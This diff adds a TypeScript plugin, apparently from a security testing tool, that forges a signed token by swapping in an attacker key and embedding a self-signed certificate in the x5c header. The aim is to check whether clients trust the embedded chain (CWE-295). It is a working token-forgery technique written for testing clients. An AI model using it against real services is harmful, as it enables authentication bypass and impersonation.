@@ -0,0 +1,61 @@
+/**
+ * X5C Certificate Chain Injection
+ *
+ * Signs the token with an attacker key Loki never publishes in its JWKS and
+ * embeds a self-signed certificate for that key in the `x5c` header, with
+ * its `x5t#S256` thumbprint. A client that builds trust from the chain the
+ * token carries validates the forgery; a client that ignores `x5c` and
+ * only trusts the discovery-advertised JWKS finds no key with the header's
+ * `kid` and rejects it. The certificate is real DER, base64 encoded as
+ * RFC 7515 requires, so it parses in X.509 libraries.
+ *
+ * Spec: RFC 7515 Section 4.1.6 - the key in x5c is only as trustworthy as
+ * the chain's validation
+ * CWE-295: Improper Certificate Validation
+ */
+
+import { attackerKey } from "../../core/attacker-keys.js";
+import { SUPPORTED_SIGNING_ALGORITHMS, type SigningAlgorithm } from "../../core/key-manager.js";
+import type { MischiefPlugin } from "../types.js";
+
+export const x5cInjection: MischiefPlugin = {
+	id: "x5c-injection",
+	name: "X5C Certificate Chain Injection",
+	severity: "critical",
+	phase: "token-signing",
+	spec: {
+		description: "Embeds a self-signed certificate chain for an attacker key in x5c",
+		rfc: "RFC 7515 Section 4.1.6",
+		cwe: "CWE-295",
+	},
+	description: "Signs with an attacker key whose self-signed certificate is embedded in x5c",
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+
+		const alg = ctx.token.header.alg;
+		if (!SUPPORTED_SIGNING_ALGORITHMS.includes(alg as SigningAlgorithm)) {
+			return { applied: false, mutation: `Not an asymmetric signature: ${alg}`, evidence: {} };
+		}
+
+		const attacker = await attackerKey(alg as SigningAlgorithm);
+		const originalKid = ctx.token.header.kid;
+		ctx.token.header.x5c = [attacker.certificate.x5c];
+		ctx.token.header["x5t#S256"] = attacker.certificate.x5tS256;
+		ctx.token.header.kid = attacker.kid;
+		await ctx.token.sign(alg, attacker.pem);
+
+		return {
+			applied: true,
+			mutation: "Embedded a self-signed attacker certificate in x5c",
+			evidence: {
+				x5tS256: attacker.certificate.x5tS256,
+				attackerKid: attacker.kid,
+				originalKid,
+				vulnerability: "Client may trust the signing key in an embedded certificate chain",
+			},
+		};
+	},
+};